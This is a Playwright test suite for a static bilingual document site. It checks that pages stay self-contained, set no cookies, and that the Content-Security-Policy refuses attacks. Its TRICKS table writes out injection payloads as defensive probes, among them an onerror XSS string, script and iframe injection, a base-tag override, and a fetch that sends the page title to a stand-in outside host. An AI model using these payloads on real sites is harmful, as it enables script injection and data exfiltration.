"""What no reader has to take on trust: no other host, no cookie, nothing inline, and a policy that holds."""

import re

import pytest
from lxml import html
from playwright.sync_api import Error, expect

from browser.conftest import Quiet, search, serving, until
from browser.settings import panel

pytestmark = pytest.mark.slow

REPORTS = """window.reports = [];
    addEventListener("securitypolicyviolation", ({effectiveDirective, blockedURI}) => reports.push(`${effectiveDirective} ${blockedURI}`));"""
# What the policy refused on a page as it prints; a report is told as a task of its own, after the layout.
REPORTED = "new Promise((done) => setTimeout(() => done([reports, document.cookie]), document.body.offsetHeight && 0))"
FETCHED = {"stylesheet", "icon", "manifest", "preload", "modulepreload", "prefetch", "preconnect", "dns-prefetch"}
LEFT = "net::ERR_ABORTED"  # still on its way when the reader, here in a hurry, went on
KEPT = {  # and the words for it on the page about the edition
    "edition.theme": "the theme",
    "edition.view": "the view",
    "edition.place": "the place",
    "edition.language": "the language",
    "edition.reading": "reading settings",
    "edition.search-key": "single keys",
}
STORES = "async () => [Object.keys(localStorage), Object.keys(sessionStorage), (await indexedDB.databases()).length, document.cookie]"
OTHER = "http://127.0.0.2:9"
# What somebody else's text could try once it were in a page, and the directive that stops it.
TRICKS = {
    "markup from text": ("document.body.innerHTML = '<img src=x onerror=alert(1)>'", "require-trusted-types-for"),
    "a script from text": ("document.head.append(Object.assign(document.createElement('script'), {text: 'alert(1)'}))", "require-trusted-types-for"),
    "a worker from elsewhere": (f"new Worker('{OTHER}/worker.js')", "require-trusted-types-for"),
    "a worker from text": ("new Worker('/service-worker.js')", "require-trusted-types-for"),
    "a policy of its own": ("trustedTypes.createPolicy('default', {createHTML: text => text})", "trusted-types"),
    "a script in a handler": ("document.body.append(new DOMParser().parseFromString('<p onclick=alert(1)>', 'text/html').body)", "require-trusted-types-for"),
    "a style attribute": ("document.body.setAttribute('style', 'display: none')", "style-src-attr"),
    "a style element": ("document.head.append(Object.assign(document.createElement('style'), {textContent: 'p {color: red}'}))", "style-src-elem"),
    "an image from elsewhere": (f"new Image().src = '{OTHER}/pixel.png'", "img-src"),
    "data to elsewhere": (f"fetch('{OTHER}/?' + document.title).catch(() => {{}})", "connect-src"),
    "a form to elsewhere": (f"document.body.appendChild(Object.assign(document.createElement('form'), {{action: '{OTHER}'}})).submit()", "form-action"),
    "another base": (f"document.head.prepend(Object.assign(document.createElement('base'), {{href: '{OTHER}'}}))", "base-uri"),
    "a frame": (f"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{OTHER}'}}))", "frame-src"),
}  # fmt: skip


@pytest.fixture(scope="session")
def plain_url(site):
    """The address of the built site on a host that sets no headers."""
    with serving(site, handler=Quiet) as address:
        yield address


def addresses(site):
    """The path of every page of the built site."""
    return [f"/{path.relative_to(site).as_posix()}".replace("index.html", "") for path in sorted(site.rglob("*.html"))]


def test_every_page_keeps_to_itself(new_context, base_url, site):
    """On screen, and every kind of page on paper, each asks this host alone, breaks no rule of the policy, has nothing to say
    to the console, loses no file and sets no cookie."""
    context = new_context()
    context.add_init_script(REPORTS)
    page, trouble, where = context.new_page(), [], ""
    note = lambda *words: trouble.append(" ".join(map(str, (where, *words))))  # noqa: E731
    page.on("console", lambda message: note("console:", message.text))
    page.on("pageerror", lambda error: note("error:", error))
    page.on("request", lambda request: request.url.startswith(base_url) or note("other host:", request.url))
    page.on("requestfailed", lambda request: request.failure == LEFT or note(request.failure, request.url))
    page.on("response", lambda response: response.status >= 400 and note(response.status, response.url))
    for where in addresses(site):
        page.goto(base_url + where)
        paper = not re.search(r"paper/(?!2-1)\d", where)  # a section prints as the others
        page.emulate_media(media="print" if paper else "screen")
        reports, cookie = page.evaluate(REPORTED)
        page.emulate_media(media="screen")
        if reports or cookie:
            note("policy:", reports, "cookie:", cookie)
    assert len(addresses(site)) >= 63
    assert trouble == [] and context.cookies() == []


def test_nothing_inline_or_from_elsewhere(site):
    """No page has a script, a style or a handler in its text (JSON-LD is data and does not run), nor asks for a file by a
    whole address; its policy stands before anything that it is about."""
    for path in site.rglob("*.html"):
        page = html.parse(path).getroot()
        for tag in page.iter(html.etree.Element):
            inline = tag.tag == "script" and "src" not in tag.attrib and tag.get("type") != "application/ld+json"
            named = [name for name in tag.attrib if name.startswith("on") or name == "style"]
            assert not (inline or named or tag.tag == "style"), f"{path}: {html.tostring(tag)[:200]}"
            fetched = tag.get("href", "") if FETCHED & set(tag.get("rel", "").split()) else ""
            address = tag.get("src") or tag.get("data") or fetched
            assert not re.match("([a-z]+:)?//|javascript:|data:", address), f"{path}: {address}"
        assert [tag.values()[0] for tag in page.head[:2]] == ["utf-8", "Content-Security-Policy"]


@pytest.mark.parametrize("trick", TRICKS)
def test_the_policy_holds(new_context, plain_url, trick):
    """What a stranger's text could try is refused by the page itself, also where a host sets no headers."""
    script, directive = TRICKS[trick]
    context = new_context()
    context.add_init_script(REPORTS)
    page = context.new_page()
    asked, answered = [], []
    page.on("request", lambda request: asked.append(request))
    page.on("response", lambda response: answered.append(response.url))
    page.goto(plain_url + "/en/paper/2-2-japan/")
    try:
        page.evaluate(f"() => {{ {script} }}")
    except Error:
        pass  # trusted types throw
    until(page, "reports.length")
    assert page.evaluate("reports[0]").split()[0] == directive
    # None: not heard of yet
    assert {request.failure for request in asked if request.url.startswith(OTHER)} <= {"csp", None}
    assert not [url for url in answered if url.startswith(OTHER)]


def test_a_visit_leaves_behind_what_the_page_about_says(page, base_url, context):
    """A visit with all that the edition offers: search, concordance, views, switch, cards, citations, tables, theme. What
    stays in the browser is six choices of the reader, by name; no cookie, no other store."""
    context.add_init_script(REPORTS)
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=base_url)
    page.goto(base_url + "/en/paper/2-2-japan/")
    page.get_by_label("Both").check()
    settings = panel(page)
    settings.get_by_label("Dark").check()
    settings.get_by_label("Sentences apart").check()
    settings.get_by_label("Single keys").uncheck()
    page.keyboard.press("Escape")
    page.locator("#p20 a.citation, #p20 .term").first.hover()
    expect(page.get_by_role("tooltip")).to_be_visible()
    page.evaluate("scrollTo(0, 400)")
    until(page, "localStorage.getItem('edition.place')")
    page.get_by_role("button", name="Paragraph 20").click()
    page.locator("#sheet").get_by_role("button", name="Copy link").click()
    page.get_by_role("banner").get_by_role("link", name="中文").click()
    page.wait_for_url(re.compile("^[^?]*(?<!/en)/paper/2-2-japan/"), wait_until="load")
    search(page, "绿色气候基金").first.click()
    page.goto(base_url + "/en/search/?q=Japan")
    expect(page.locator("#concordance mark").first).to_be_visible()
    page.goto(base_url + "/en/tables/terms/")
    page.get_by_role("button", name="Count (Chinese)").click()
    page.get_by_label("Filter").fill("碳汇")
    page.goto(base_url + "/en/")
    page.get_by_role("button", name="Copy APA 7").first.click()
    kept, session, databases, cookie = page.evaluate(STORES)
    assert set(kept) == KEPT.keys()
    assert (session, databases, cookie, context.cookies()) == ([], 0, "", [])
    assert page.evaluate("reports") == []
    page.goto(base_url + "/en/about/#privacy")
    told = page.locator("#privacy + p").text_content()
    assert [words for words in KEPT.values() if words not in told] == []


def test_other_sites_may_read_the_data(new_context, base_url, plain_url):
    """A page of another site can fetch what is there to be taken away; pages it can link to, not take or frame."""
    page = new_context(bypass_csp=True).new_page()
    page.goto(plain_url + "/en/")
    paths = ("/paper.json", "/tables/terms.csv", "/downloads/paper.zh.epub", "/en/")
    fetched = "url => fetch(url).then(({status}) => status, () => 'refused')"
    assert [page.evaluate(fetched, base_url + path) for path in paths] == [200, 200, 200, "refused"]
